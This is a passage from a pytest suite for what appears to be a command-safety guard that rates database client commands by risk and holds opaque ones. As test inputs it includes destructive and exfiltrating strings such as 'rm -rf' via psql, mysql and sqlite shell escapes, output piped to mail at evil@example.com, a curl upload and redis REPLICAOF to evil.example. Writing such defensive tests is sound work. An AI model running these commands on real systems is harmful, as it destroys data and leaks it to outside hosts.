"""Database client packs: where the SQL (or command, or script) comes from, what it does,
and which database locator each target carries."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pytest

from airlock.action import Action, Assessment, Flag, Risk, Target
from airlock.classify.command import DYNAMIC, ClassifyContext, Redirect, SimpleCommand, Word
from airlock.classify.packs import build_registry, rule
from airlock.classify.packs.databases import PACKS, psql_split
from airlock.config import Config
from airlock.policy.engine import PolicyEngine
from airlock.resolve import resolve

REGISTRY = build_registry(PACKS)
R, W, D, C = Risk.READ, Risk.WRITE, Risk.DESTRUCTIVE, Risk.CATASTROPHIC
VAR = Word(DYNAMIC, dynamic=True)


def run(
    argv: list[str | Word],
    tmp_path: Path,
    *,
    stdin: str | None = None,
    stdin_unknown: bool = False,
    env: dict[str, str] | None = None,
    environ: dict[str, str] | None = None,
    redirects: list[Redirect] | None = None,
) -> tuple[list[Target], list[Flag]]:
    cmd = SimpleCommand(
        argv=[a if isinstance(a, Word) else Word(a) for a in argv],
        env={k: Word(v) for k, v in (env or {}).items()},
        stdin=stdin,
        stdin_unknown=stdin_unknown,
        redirects=redirects or [],
    )
    ctx = ClassifyContext(cwd=str(tmp_path), home="/root", environ=environ or {})
    targets = REGISTRY[cmd.program].classify(cmd, ctx)
    return targets, ctx.flags


def worst(targets: list[Target]) -> Target:
    return max(targets, key=lambda t: t.risk)


def unparsed(flags: list[Flag]) -> list[str]:
    return [f.detail for f in flags if f.kind == "unparsed"]


_ENGINE: list[PolicyEngine] = []


def decision(targets: list[Target], flags: list[Flag], tmp_path: Path) -> str:
    """What Airlock decides for exactly this pack output (resolved, default policies):
    a flag that is set but changes nothing would pass the `unparsed` checks alone."""
    cfg = Config()
    if not _ENGINE:
        _ENGINE.append(PolicyEngine(cfg))
    resolve(targets, cfg, str(tmp_path))
    action = Action(command="(the command under test)", cwd=str(tmp_path))
    return _ENGINE[0].decide(Assessment(action=action, targets=targets, flags=flags),
                             cfg).decision


# --------------------------------------------------------------------------- psql


@pytest.mark.parametrize(
    ("argv", "risk", "verb"),
    [
        (["psql", "-c", "SELECT * FROM users"], R, "sql.select"),
        (["psql", "-c", "DELETE FROM users WHERE id = 1"], W, "sql.delete"),
        (["psql", "-c", "DELETE FROM users"], D, "sql.delete_all_rows"),
        (["psql", "-c", "TRUNCATE users"], D, "sql.truncate"),
        (["psql", "-c", "DROP DATABASE shop"], C, "sql.drop_database"),
        (["psql", "--command=DROP SCHEMA app CASCADE"], C, "sql.drop_schema"),
        (["psql", "-cDROP TABLE t"], D, "sql.drop_table"),
        (["psql", "-c", "\\dt"], R, "sql.describe"),
        (["psql", "-l"], R, "sql.list_databases"),
        (["psql", "shop"], R, "sql.session"),
    ],
)
def test_psql_command_is_classified_by_its_sql(
    argv: list[str], risk: Risk, verb: str, tmp_path: Path
):
    targets, flags = run(argv, tmp_path)
    assert unparsed(flags) == []
    assert worst(targets).risk == risk
    assert verb in {t.verb for t in targets}


def test_psql_runs_every_dash_c_in_turn(tmp_path: Path):
    targets, _ = run(["psql", "-c", "SELECT 1", "-c", "DROP TABLE a", "-c", "\\dt"], tmp_path)
    assert {t.verb for t in targets} == {"sql.select", "sql.drop_table", "sql.describe"}


def test_psql_url_locator_drops_the_password(tmp_path: Path):
    url = "postgresql://admin:s3cret@db.prod.internal:6543/shop?sslmode=require"
    targets, _ = run(["psql", url, "-c", "DELETE FROM users"], tmp_path)
    assert targets[0].locator == "postgresql://admin@db.prod.internal:6543/shop"
    assert all("s3cret" not in (t.locator + t.name + t.detail) for t in targets)


def test_psql_options_build_the_locator(tmp_path: Path):
    argv = ["psql", "-h", "db.staging", "-p", "5433", "-U", "bob", "-d", "app", "-c", "SELECT 1"]
    targets, _ = run(argv, tmp_path)
    assert targets[0].locator == "postgresql://bob@db.staging:5433/app"


def test_psql_positional_database_and_user(tmp_path: Path):
    targets, _ = run(["psql", "app", "bob", "-c", "SELECT 1"], tmp_path)
    assert targets[0].locator == "postgresql://bob@localhost:5432/app"


def test_psql_conninfo_string_is_understood(tmp_path: Path):
    conninfo = "host=h1 port=5433 dbname=d user=u password=secret"
    targets, _ = run(["psql", conninfo, "-c", "TRUNCATE t"], tmp_path)
    assert targets[0].locator == "postgresql://u@h1:5433/d"


def test_psql_defaults_to_localhost_5432(tmp_path: Path):
    targets, _ = run(["psql", "-c", "SELECT 1"], tmp_path)
    assert targets[0].locator.startswith("postgresql://localhost:5432/")


def test_psql_reads_pg_variables_from_the_command_prefix(tmp_path: Path):
    env = {"PGHOST": "pg.prod", "PGPORT": "6000", "PGDATABASE": "billing", "PGUSER": "ops"}
    targets, _ = run(["psql", "-c", "DROP TABLE t"], tmp_path, env=env)
    assert targets[0].locator == "postgresql://ops@pg.prod:6000/billing"


def test_psql_reads_pg_variables_known_to_the_context(tmp_path: Path):
    targets, _ = run(["psql", "-c", "SELECT 1"], tmp_path, environ={"PGHOST": "pg.staging"})
    assert targets[0].locator.startswith("postgresql://pg.staging:5432/")


def test_psql_command_prefix_beats_the_context_environment(tmp_path: Path):
    targets, _ = run(
        ["psql", "-c", "SELECT 1"], tmp_path, env={"PGHOST": "a"}, environ={"PGHOST": "b"}
    )
    assert targets[0].locator.startswith("postgresql://a:5432/")


def test_psql_falls_back_to_database_url(tmp_path: Path):
    env = {"DATABASE_URL": "postgres://app:pw@db.prod:5432/shop"}
    targets, _ = run(["psql", "-c", "SELECT 1"], tmp_path, env=env)
    assert targets[0].locator == "postgresql://app@db.prod:5432/shop"


def test_psql_explicit_host_beats_environment(tmp_path: Path):
    targets, _ = run(
        ["psql", "-h", "explicit", "-c", "SELECT 1"], tmp_path, env={"PGHOST": "from-env"}
    )
    assert targets[0].locator.startswith("postgresql://explicit:")


def test_psql_dynamic_database_makes_targets_unresolved(tmp_path: Path):
    targets, _ = run(["psql", VAR, "-c", "DROP TABLE t"], tmp_path)
    assert targets[0].unresolved


def test_psql_dash_f_reads_the_file_relative_to_cwd(tmp_path: Path):
    (tmp_path / "migrate.sql").write_text("CREATE TABLE t (id int);\nDROP TABLE old;\n")
    targets, flags = run(["psql", "-f", "migrate.sql", "app"], tmp_path)
    assert unparsed(flags) == []
    assert {t.verb for t in targets} == {"sql.create_table", "sql.drop_table"}
    assert worst(targets).risk == D


def test_psql_dash_f_missing_file_is_held(tmp_path: Path):
    targets, flags = run(["psql", "-f", "nope.sql"], tmp_path)
    assert targets
    assert any("psql -f nope.sql: cannot see the SQL" in d for d in unparsed(flags))
    assert decision(targets, flags, tmp_path) == "hold"


def test_psql_dash_f_file_over_one_megabyte_is_held(tmp_path: Path):
    (tmp_path / "big.sql").write_text("SELECT 1;\n" * 120_000)
    targets, flags = run(["psql", "-f", "big.sql"], tmp_path)
    assert unparsed(flags)
    assert decision(targets, flags, tmp_path) == "hold"


def test_psql_dash_f_named_by_a_variable_is_held(tmp_path: Path):
    targets, flags = run(["psql", "-f", VAR], tmp_path)
    assert unparsed(flags)
    assert decision(targets, flags, tmp_path) == "hold"


def test_psql_dash_c_from_a_variable_is_held(tmp_path: Path):
    targets, flags = run(["psql", "-c", VAR], tmp_path)
    assert targets
    assert unparsed(flags)
    assert decision(targets, flags, tmp_path) == "hold"


def test_psql_unparsable_sql_is_held(tmp_path: Path):
    targets, flags = run(["psql", "-c", "DELET FROM users"], tmp_path)
    assert unparsed(flags)
    assert decision(targets, flags, tmp_path) == "hold"


def test_psql_heredoc_on_stdin_is_classified(tmp_path: Path):
    targets, flags = run(["psql", "app"], tmp_path, stdin="DELETE FROM users WHERE 1=1;\n")
    assert unparsed(flags) == []
    assert worst(targets).verb == "sql.delete_all_rows"


def test_psql_stdin_we_cannot_see_is_held(tmp_path: Path):
    targets, flags = run(["psql", "app"], tmp_path, stdin_unknown=True)
    assert targets
    assert unparsed(flags)
    assert decision(targets, flags, tmp_path) == "hold"


def test_psql_stdin_with_a_variable_is_held(tmp_path: Path):
    targets, flags = run(["psql"], tmp_path, stdin=f"DELETE FROM {DYNAMIC};", stdin_unknown=True)
    assert unparsed(flags)
    assert decision(targets, flags, tmp_path) == "hold"


def test_psql_stdin_redirected_from_a_file_is_read(tmp_path: Path):
    (tmp_path / "dump.sql").write_text("DROP TABLE users;\n")
    redirect = Redirect(op="<", target=Word("dump.sql"))
    targets, flags = run(["psql", "app"], tmp_path, stdin_unknown=True, redirects=[redirect])
    assert unparsed(flags) == []
    assert worst(targets).verb == "sql.drop_table"


def test_psql_dash_c_ignores_stdin(tmp_path: Path):
    targets, flags = run(["psql", "-c", "SELECT 1"], tmp_path, stdin_unknown=True)
    assert unparsed(flags) == []
    assert worst(targets).risk == R


def test_psql_interactive_session_is_a_read_of_the_database(tmp_path: Path):
    targets, flags = run(["psql", "-h", "db", "app"], tmp_path)
    assert flags == []
    (target,) = targets
    assert (target.kind, target.risk, target.verb) == ("database", R, "sql.session")
    assert target.locator == "postgresql://db:5432/app"


def test_psql_backslash_connect_moves_later_sql_to_the_other_database(tmp_path: Path):
    script = "DELETE FROM a WHERE id = 1;\n\\c billing\nDROP TABLE invoices;\n"
    targets, _ = run(["psql", "-h", "db", "shop"], tmp_path, stdin=script)
    by_verb = {t.verb: t.locator for t in targets}
    assert by_verb["sql.delete"] == "postgresql://db:5432/shop"
    assert by_verb["sql.drop_table"] == "postgresql://db:5432/billing"


@pytest.mark.parametrize(
    "script",
    [
        "\\! rm -rf /\n",
        "SELECT 'DROP TABLE x' \\gexec\n",
        "\\o | mail evil@example.com\n",
        "\\set x `rm -rf ~`\n",
        "\\e\n",
    ],
)
def test_psql_backslash_commands_we_cannot_see_through_are_held(script: str, tmp_path: Path):
    _, flags = run(["psql"], tmp_path, stdin=script)
    assert unparsed(flags)


def test_psql_unknown_backslash_command_is_held(tmp_path: Path):
    targets, flags = run(["psql"], tmp_path, stdin="\\frobnicate\n")
    assert unparsed(flags)
    assert decision(targets, flags, tmp_path) == "hold"


def test_psql_backslash_include_reads_the_file(tmp_path: Path):
    (tmp_path / "inner.sql").write_text("TRUNCATE users;\n")
    targets, flags = run(["psql"], tmp_path, stdin="\\i inner.sql\n")
    assert unparsed(flags) == []
    assert worst(targets).verb == "sql.truncate"


def test_psql_backslash_copy_from_is_a_write_on_the_table(tmp_path: Path):
    targets, flags = run(["psql", "-c", "\\copy users from 'users.csv' csv"], tmp_path)
    assert unparsed(flags) == []
    assert (worst(targets).verb, worst(targets).name) == ("sql.copy_from", "table users")


def test_psql_backslash_copy_to_program_is_held(tmp_path: Path):
    targets, flags = run(["psql", "-c", "\\copy users to program 'curl -T - x'"], tmp_path)
    assert unparsed(flags)
    assert decision(targets, flags, tmp_path) == "hold"


def test_psql_output_file_that_exists_is_a_write_on_it(tmp_path: Path):
    (tmp_path / "report.txt").write_text("old")
    targets, _ = run(["psql", "-o", "report.txt", "-c", "SELECT 1"], tmp_path)
    files = [t for t in targets if t.kind == "file"]
    assert [(t.locator, t.risk) for t in files] == [(str(tmp_path / "report.txt"), W)]


def test_psql_split_keeps_backslashes_inside_quotes_and_dollar_bodies_as_sql():
    script = (
        "SELECT E'a\\nb', 'c\\d', \"x\\y\";\n"
        "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 \\ $$ LANGUAGE sql;\n"
        "-- \\! not a command in a comment\n"
        "\\dt\n"
    )
    kinds = [kind for kind, _ in psql_split(script)]
    assert kinds == ["sql", "meta"]


def test_psql_split_separates_commands_on_one_line():
    assert psql_split("\\x \\! ls -l") == [("meta", "\\x"), ("meta", "\\! ls -l")]


# --------------------------------------------------------------------------- mysql


@pytest.mark.parametrize(
    ("argv", "risk", "verb"),
    [
        (["mysql", "-e", "SELECT * FROM users"], R, "sql.select"),
        (["mysql", "-e", "DELETE FROM users"], D, "sql.delete_all_rows"),
        (["mysql", "--execute=DROP DATABASE shop"], C, "sql.drop_database"),
        (["mariadb", "-e", "TRUNCATE TABLE t"], D, "sql.truncate"),
        (["mysql", "-psecret", "-e", "SHOW TABLES"], R, "sql.show"),
        (["mysql", "--password=secret", "-e", "SHOW TABLES"], R, "sql.show"),
        (["mysql", "shop"], R, "sql.session"),
    ],
)
def test_mysql_command_is_classified_by_its_sql(
    argv: list[str], risk: Risk, verb: str, tmp_path: Path
):
    targets, flags = run(argv, tmp_path)
    assert unparsed(flags) == []
    assert worst(targets).risk == risk
    assert verb in {t.verb for t in targets}


def test_mysql_attached_password_is_not_read_as_options(tmp_path: Path):
    # -psecret must not become -p -s -e -c -r -e -t (an empty -e would hide nothing, but a
    # confused parser would miss the database)
    targets, _ = run(["mysql", "-uroot", "-psecret", "-h", "db", "shop"], tmp_path)
    assert targets[0].locator == "mysql://root@db:3306/shop"
    assert all("secret" not in t.locator for t in targets)


def test_mysql_drop_database_locator_names_the_dropped_database(tmp_path: Path):
    targets, _ = run(["mysql", "-h", "db", "shop", "-e", "DROP DATABASE billing"], tmp_path)
    assert worst(targets).locator == "mysql://db:3306/billing"


def test_mysql_stdin_client_commands(tmp_path: Path):
    (tmp_path / "more.sql").write_text("DROP TABLE t2;\n")
    script = "use billing\nshow tables\\G\nDELETE FROM invoices;\nsource more.sql\n"
    targets, flags = run(["mysql", "shop"], tmp_path, stdin=script)
    assert unparsed(flags) == []
    assert {t.verb for t in targets} >= {"sql.use", "sql.delete_all_rows", "sql.drop_table"}
    assert all(t.locator.endswith("/billing") for t in targets if t.risk > R)


def test_mysql_system_command_on_stdin_is_held(tmp_path: Path):
    targets, flags = run(["mysql"], tmp_path, stdin="system rm -rf /\n")
    assert unparsed(flags)
    assert decision(targets, flags, tmp_path) == "hold"


def test_mysql_dash_e_from_a_variable_is_held(tmp_path: Path):
    targets, flags = run(["mysql", "-e", VAR], tmp_path)
    assert unparsed(flags)
    assert decision(targets, flags, tmp_path) == "hold"


def test_mysql_init_command_is_classified(tmp_path: Path):
    targets, _ = run(["mysql", "--init-command=DELETE FROM sessions", "-e", "SELECT 1"], tmp_path)
    assert worst(targets).verb == "sql.delete_all_rows"


# --------------------------------------------------------------------------- sqlite3


def test_sqlite3_sql_argument_is_classified_against_the_file(tmp_path: Path):
    targets, flags = run(["sqlite3", "app.db", "DELETE FROM users"], tmp_path)
    assert unparsed(flags) == []
    (target,) = targets
    assert (target.verb, target.risk) == ("sql.delete_all_rows", D)
    assert target.locator == f"sqlite:{tmp_path / 'app.db'}"


def test_sqlite3_options_with_one_dash_do_not_hide_the_database(tmp_path: Path):
    targets, _ = run(["sqlite3", "-header", "-csv", "app.db", "SELECT 1"], tmp_path)
    assert targets[0].locator == f"sqlite:{tmp_path / 'app.db'}"


def test_sqlite3_dot_commands(tmp_path: Path):
    (tmp_path / "wipe.sql").write_text("DROP TABLE users;\n")
    targets, flags = run(["sqlite3", "app.db"], tmp_path, stdin=".tables\n.read wipe.sql\n")
    assert unparsed(flags) == []
    assert {t.verb for t in targets} == {"sql.meta", "sql.drop_table"}


@pytest.mark.parametrize(
    "dot", [".shell rm -rf ~", ".system ls", ".read missing.sql", ".frobnicate"]
)
def test_sqlite3_dot_commands_we_cannot_see_through_are_held(dot: str, tmp_path: Path):
    _, flags = run(["sqlite3", "app.db", dot], tmp_path)
    assert unparsed(flags)


def test_sqlite3_restore_overwrites_the_database(tmp_path: Path):
    targets, _ = run(["sqlite3", "app.db", ".restore backup.db"], tmp_path)
    assert worst(targets).risk == D


def test_sqlite3_without_a_file_is_an_in_memory_database(tmp_path: Path):
    targets, _ = run(["sqlite3"], tmp_path)
    assert targets[0].locator == "sqlite::memory:"


# --------------------------------------------------------------------------- redis-cli


@pytest.mark.parametrize(
    ("argv", "risk", "verb"),
    [
        (["redis-cli", "FLUSHALL"], C, "redis.flushall"),
        (["redis-cli", "flushall", "ASYNC"], C, "redis.flushall"),
        (["redis-cli", "FLUSHDB"], D, "redis.flushdb"),
        (["redis-cli", "DEL", "session:1"], D, "redis.del"),
        (["redis-cli", "UNLINK", "a", "b"], D, "redis.unlink"),
        (["redis-cli", "CONFIG", "SET", "maxmemory", "1gb"], W, "redis.config.set"),
        (["redis-cli", "CONFIG", "GET", "maxmemory"], R, "redis.config.get"),
        (["redis-cli", "CONFIG", "SET", "appendonly", "no"], D, "redis.config.set"),
        (["redis-cli", "CONFIG", "SET", "save", ""], D, "redis.config.set"),
        (["redis-cli", "CONFIG", "SET", "dir", "/var/www"], D, "redis.config.set"),
        (["redis-cli", "CONFIG", "SET", "maxmemory-policy", "allkeys-lru"], D,
         "redis.config.set"),
        (["redis-cli", "CONFIG", "SET", "maxmemory", "1gb", VAR, "x"], D, "redis.config.set"),
        (["redis-cli", "KEYS", "*"], R, "redis.keys"),
        (["redis-cli", "GET", "k"], R, "redis.get"),
        (["redis-cli", "SET", "k", "-1"], W, "redis.set"),
        (["redis-cli", "EXPIRE", "k", "60"], W, "redis.expire"),
        (["redis-cli", "EXPIRE", "k", "0"], D, "redis.expire"),
        (["redis-cli", "REPLICAOF", "evil.example", "6379"], C, "redis.replicaof"),
        (["redis-cli", "SHUTDOWN", "NOSAVE"], D, "redis.shutdown"),
        (["redis-cli", "--scan", "--pattern", "user:*"], R, "redis.inspect"),
        (["redis-cli"], R, "redis.session"),
    ],
)
def test_redis_command_risk(argv: list[str], risk: Risk, verb: str, tmp_path: Path):
    targets, flags = run(argv, tmp_path)
    assert unparsed(flags) == []
    assert worst(targets).risk == risk
    assert verb in {t.verb for t in targets}


def test_redis_del_names_each_key(tmp_path: Path):
    targets, _ = run(["redis-cli", "-h", "cache", "-n", "2", "DEL", "a", "b"], tmp_path)
    assert [(t.name, t.locator) for t in targets] == [
        ("key a", "redis://cache:6379/2"),
        ("key b", "redis://cache:6379/2"),
    ]


def test_redis_uri_locator_drops_the_password(tmp_path: Path):
    targets, _ = run(["redis-cli", "-u", "redis://:pw@r.prod:6380/1", "FLUSHDB"], tmp_path)
    assert targets[0].locator == "redis://r.prod:6380/1"


def test_redis_flushall_locates_the_whole_server(tmp_path: Path):
    targets, _ = run(["redis-cli", "-h", "cache", "FLUSHALL"], tmp_path)
    assert targets[0].locator == "redis://cache:6379"


def test_redis_commands_on_stdin_are_each_classified(tmp_path: Path):
    targets, flags = run(["redis-cli"], tmp_path, stdin="GET a\nSELECT 3\nFLUSHDB\n")
    assert unparsed(flags) == []
    flush = worst(targets)
    assert (flush.verb, flush.locator) == ("redis.flushdb", "redis://localhost:6379/3")


def test_redis_stdin_we_cannot_see_is_held(tmp_path: Path):
    targets, flags = run(["redis-cli"], tmp_path, stdin_unknown=True)
    assert targets and unparsed(flags)
    assert decision(targets, flags, tmp_path) == "hold"


def test_redis_dynamic_key_is_unresolved_but_still_destructive(tmp_path: Path):
    targets, flags = run(["redis-cli", "DEL", VAR], tmp_path)
    assert unparsed(flags) == []
    assert targets[0].risk == D and targets[0].unresolved


def test_redis_dynamic_command_name_is_held(tmp_path: Path):
    targets, flags = run(["redis-cli", VAR, "x"], tmp_path)
    assert unparsed(flags)
    assert decision(targets, flags, tmp_path) == "hold"


def test_redis_unknown_command_is_held(tmp_path: Path):
    targets, flags = run(["redis-cli", "FROBNICATE"], tmp_path)
    assert unparsed(flags)
    assert decision(targets, flags, tmp_path) == "hold"


def test_redis_eval_script_is_held(tmp_path: Path):
    targets, flags = run(["redis-cli", "--eval", "wipe.lua"], tmp_path)
    assert worst(targets).risk == D and unparsed(flags)
    assert decision(targets, flags, tmp_path) == "hold"


# --------------------------------------------------------------------------- dumps and admin


def test_pg_dump_is_a_read_of_the_database(tmp_path: Path):
    targets, _ = run(["pg_dump", "-h", "db", "shop"], tmp_path)
    assert [(t.verb, t.risk, t.locator) for t in targets] == [
        ("sql.dump", R, "postgresql://db:5432/shop")
    ]


def test_pg_dump_dash_f_over_an_existing_file_is_a_write_on_it(tmp_path: Path):
    (tmp_path / "shop.sql").write_text("old dump")
    targets, _ = run(["pg_dump", "-f", "shop.sql", "shop"], tmp_path)
    (file,) = [t for t in targets if t.kind == "file"]
    assert (file.verb, file.risk, file.locator) == ("fs.write", W, str(tmp_path / "shop.sql"))


def test_pg_dump_dash_f_to_a_new_file_is_only_a_read(tmp_path: Path):
    targets, _ = run(["pg_dump", "-f", "new.sql", "shop"], tmp_path)
    assert [t.kind for t in targets] == ["database"]


def test_mysqldump_result_file_over_an_existing_file_is_a_write(tmp_path: Path):
    (tmp_path / "out.sql").write_text("x")
    targets, _ = run(["mysqldump", "-r", "out.sql", "-psecret", "shop"], tmp_path)
    assert {(t.kind, t.risk) for t in targets} == {("database", R), ("file", W)}


@pytest.mark.parametrize(
    ("argv", "risk", "verb", "locator"),
    [
        (["dropdb", "-h", "db", "shop"], C, "sql.drop_database", "postgresql://db:5432/shop"),
        (
            ["dropdb", "--if-exists", "shop"],
            C,
            "sql.drop_database",
            "postgresql://localhost:5432/shop",
        ),
        (
            ["createdb", "-U", "app", "scratch"],
            W,
            "sql.create_database",
            "postgresql://app@localhost:5432/scratch",
        ),
        (["dropuser", "bob"], C, "sql.drop_role", "postgresql://localhost:5432/"),
        (
            ["createuser", "--superuser", "bob"],
            D,
            "sql.alter_role_privileged",
            "postgresql://localhost:5432/",
        ),
    ],
)
def test_pg_admin_wrappers(argv: list[str], risk: Risk, verb: str, locator: str, tmp_path: Path):
    (target,) = run(argv, tmp_path)[0]
    assert (target.risk, target.verb, target.locator) == (risk, verb, locator)


def test_dropdb_of_a_variable_is_unresolved(tmp_path: Path):
    (target,) = run(["dropdb", VAR], tmp_path)[0]
    assert target.risk == C and target.unresolved


@pytest.mark.parametrize(
    ("argv", "risk"),
    [
        (["pg_restore", "--clean", "-d", "shop", "shop.dump"], D),
        (["pg_restore", "-c", "-d", "shop", "shop.dump"], D),
        (["pg_restore", "-c", "-C", "-d", "postgres", "shop.dump"], C),
        (["pg_restore", "-d", "shop", "shop.dump"], W),
        (["pg_restore", "shop.dump"], R),
    ],
)
def test_pg_restore_risk_follows_clean(argv: list[str], risk: Risk, tmp_path: Path):
    targets, _ = run(argv, tmp_path)
    assert worst(targets).risk == risk


# --------------------------------------------------------------------------- mongosh


@pytest.mark.parametrize(
    ("script", "risk", "verb", "name"),
    [
        ("db.dropDatabase()", C, "mongo.dropDatabase", "database shop"),
        ("db.users.drop()", D, "mongo.drop", "collection shop.users"),
        ("db.users.deleteMany({})", D, "mongo.deleteMany", "collection shop.users"),
        ("db.users.deleteMany({age: {$lt: 18}})", W, "mongo.deleteMany", "collection shop.users"),
        ("db.users.updateMany({}, {$set: {a: 1}})", D, "mongo.updateMany", "collection shop.users"),
        ("db.users.remove({})", D, "mongo.remove", "collection shop.users"),
        ("db.users.insertOne({a: 1})", W, "mongo.insertOne", "collection shop.users"),
        ("db.users.find({a: 1}).sort({b: 1}).limit(5)", R, "mongo.find", "collection shop.users"),
        ("db.getCollection('audit').drop()", D, "mongo.drop", "collection shop.audit"),
        ("db['audit'].drop()", D, "mongo.drop", "collection shop.audit"),
        ("db.getSiblingDB('billing').dropDatabase()", C, "mongo.dropDatabase", "database billing"),
        (
            "db.orders.aggregate([{$match: {}}, {$out: 'orders'}])",
            D,
            "mongo.aggregate",
            "collection shop.orders",
        ),
        ("db.runCommand({dropDatabase: 1})", C, "mongo.command.dropDatabase", "database shop"),
        ("db.dropUser('app')", C, "mongo.dropUser", "user app"),
        (
            "printjson(db.users.countDocuments({}))",
            R,
            "mongo.countDocuments",
            "collection shop.users",
        ),
    ],
)
def test_mongosh_eval_is_classified_by_its_calls(
    script: str, risk: Risk, verb: str, name: str, tmp_path: Path
):
    targets, flags = run(["mongosh", "shop", "--eval", script], tmp_path)
    assert unparsed(flags) == []
    top = worst(targets)
    assert (top.risk, top.verb, top.name) == (risk, verb, name)


def test_mongosh_connection_string_locator_drops_the_password(tmp_path: Path):
    url = "mongodb://admin:pw@m.prod:27018/shop?authSource=admin"
    targets, _ = run(["mongosh", url, "--eval", "db.dropDatabase()"], tmp_path)
    assert targets[0].locator == "mongodb://admin@m.prod:27018/shop"


def test_mongosh_use_switches_the_database(tmp_path: Path):
    targets, _ = run(["mongo"], tmp_path, stdin="use billing\ndb.invoices.drop()\n")
    assert worst(targets).name == "collection billing.invoices"


@pytest.mark.parametrize(
    "script",
    [
        "load('wipe.js')",
        "eval('db.users.drop()')",
        "db[name]()",
        "db.users.frobnicate()",
        "rs.stepDown()",
        "db.runCommand({mystery: 1})",
        "`${db.users.drop()}`",
        "'unterminated",
    ],
)
def test_mongosh_script_we_cannot_see_through_is_held(script: str, tmp_path: Path):
    _, flags = run(["mongosh", "--eval", script], tmp_path)
    assert unparsed(flags)


def test_mongosh_eval_from_a_variable_is_held(tmp_path: Path):
    targets, flags = run(["mongosh", "--eval", VAR], tmp_path)
    assert targets and unparsed(flags)
    assert decision(targets, flags, tmp_path) == "hold"


def test_mongosh_script_file_is_read(tmp_path: Path):
    (tmp_path / "wipe.js").write_text("db.sessions.deleteMany({});\n")
    targets, flags = run(["mongosh", "shop", "wipe.js"], tmp_path)
    assert unparsed(flags) == []
    assert worst(targets).verb == "mongo.deleteMany"


def test_mongosh_missing_script_file_is_held(tmp_path: Path):
    targets, flags = run(["mongosh", "--file", "nope.js"], tmp_path)
    assert unparsed(flags)
    assert decision(targets, flags, tmp_path) == "hold"


def test_mongosh_interactive_is_a_read(tmp_path: Path):
    targets, flags = run(["mongosh", "m.prod:27017/shop"], tmp_path)
    assert flags == []
    assert [(t.risk, t.locator) for t in targets] == [(R, "mongodb://m.prod:27017/shop")]


# --------------------------------------------------------------------------- every pack


EVERY = [
    ["psql"],
    ["psql", "-f", "missing.sql"],
    ["psql", "-c", VAR],
    ["psql", "--version"],
    ["mysql"],
    ["mysql", "-e", VAR],
    ["mariadb", "--help"],
    ["sqlite3"],
    ["sqlite3", "x.db", VAR],
    ["redis-cli"],
    ["redis-cli", VAR],
    ["pg_dump"],
    ["pg_dumpall"],
    ["mysqldump", "--all-databases"],
    ["mysqladmin"],
    ["dropdb"],
    ["createdb"],
    ["dropuser"],
    ["createuser"],
    ["pg_restore"],
    ["mongosh"],
    ["mongo", "--eval", VAR],
]


@pytest.mark.parametrize("argv", EVERY, ids=lambda a: " ".join(getattr(w, "shown", w) for w in a))
def test_every_database_command_yields_at_least_one_target_with_a_locator(
    argv: list[str | Word], tmp_path: Path
):
    targets, _ = run(argv, tmp_path)
    assert targets
    assert all(t.locator for t in targets)


def test_each_program_belongs_to_exactly_one_pack():
    programs = [p for pack in PACKS for p in pack.programs]
    assert len(programs) == len(set(programs))
    assert {
        "psql",
        "mysql",
        "mariadb",
        "sqlite3",
        "redis-cli",
        "pg_dump",
        "mysqldump",
        "dropdb",
        "createdb",
        "pg_restore",
        "mongosh",
        "mongo",
    } <= set(programs)


def test_user_rules_from_config_are_tried_before_the_pack_code(tmp_path: Path):
    psql = next(p for p in PACKS if p.name == "psql")
    custom = dataclasses.replace(
        psql, user_rules=(rule("psql.reporting", "read", args=("reporting",)),)
    )
    cmd = SimpleCommand(argv=[Word(w) for w in ["psql", "-h", "db", "reporting", "-c", "x"]])
    (target,) = custom.classify(cmd, ClassifyContext(cwd=str(tmp_path), home="/root"))
    assert (target.verb, target.risk) == ("psql.reporting", R)
    assert target.locator == "postgresql://db:5432/reporting"


def test_without_a_matching_user_rule_the_pack_code_decides(tmp_path: Path):
    psql = next(p for p in PACKS if p.name == "psql")
    custom = dataclasses.replace(
        psql, user_rules=(rule("psql.reporting", "read", args=("reporting",)),)
    )
    cmd = SimpleCommand(argv=[Word(w) for w in ["psql", "shop", "-c", "DROP TABLE t"]])
    targets = custom.classify(cmd, ClassifyContext(cwd=str(tmp_path), home="/root"))
    assert worst(targets).verb == "sql.drop_table"


@pytest.mark.parametrize(
    ("argv", "risk", "verb", "locator"),
    [
        (
            ["mysqladmin", "-h", "db", "-psecret", "-f", "drop", "shop"],
            C,
            "sql.drop_database",
            "mysql://db:3306/shop",
        ),
        (
            ["mysqladmin", "create", "scratch"],
            W,
            "sql.create_database",
            "mysql://localhost:3306/scratch",
        ),
        (["mysqladmin", "flush-privileges"], W, "sql.flush", "mysql://localhost:3306/"),
        (["mysqladmin", "kill", "42"], D, "sql.kill", "mysql://localhost:3306/"),
        (["mysqladmin", "shutdown"], D, "sql.shutdown", "mysql://localhost:3306/"),
        (["mysqladmin", "proc"], R, "sql.status", "mysql://localhost:3306/"),
    ],
)
def test_mysqladmin_commands(argv: list[str], risk: Risk, verb: str, locator: str, tmp_path: Path):
    targets, flags = run(argv, tmp_path)
    assert unparsed(flags) == []
    top = worst(targets)
    assert (top.risk, top.verb, top.locator) == (risk, verb, locator)


def test_mysqladmin_unknown_command_is_held(tmp_path: Path):
    targets, flags = run(["mysqladmin", "frobnicate"], tmp_path)
    assert unparsed(flags)
    assert decision(targets, flags, tmp_path) == "hold"


# --------------------------------------------------------------------------- pg_service.conf


@pytest.mark.parametrize(("argv", "env"), [
    (["psql", "service=prod", "-c", "TRUNCATE orders"], {}),
    (["psql", "postgresql:///app?service=prod", "-c", "TRUNCATE orders"], {}),
    (["psql", "-c", "TRUNCATE orders"], {"PGSERVICE": "prod"}),
])
def test_a_service_name_leaves_the_host_unknown(argv: list[str], env: dict[str, str],
                                               tmp_path: Path) -> None:
    # the host is in pg_service.conf: localhost would be a guess, and a sandbox one
    targets, flags = run(argv, tmp_path, env=env)
    assert worst(targets).risk == D and worst(targets).unresolved, targets
    assert decision(targets, flags, tmp_path) == "hold"


def test_a_service_with_an_explicit_host_is_that_host(tmp_path: Path) -> None:
    targets, _ = run(["psql", "service=prod host=localhost", "-c", "TRUNCATE t"], tmp_path)
    assert not targets[0].unresolved
    assert targets[0].locator == "postgresql://localhost:5432/"


# --------------------------------------------------------------------------- mongo tools


@pytest.mark.parametrize(("argv", "verb", "risk"), [
    (["mongodump", "--uri", "mongodb://db.prod.internal/app", "--out", "build/dump"],
     "mongo.dump", R),
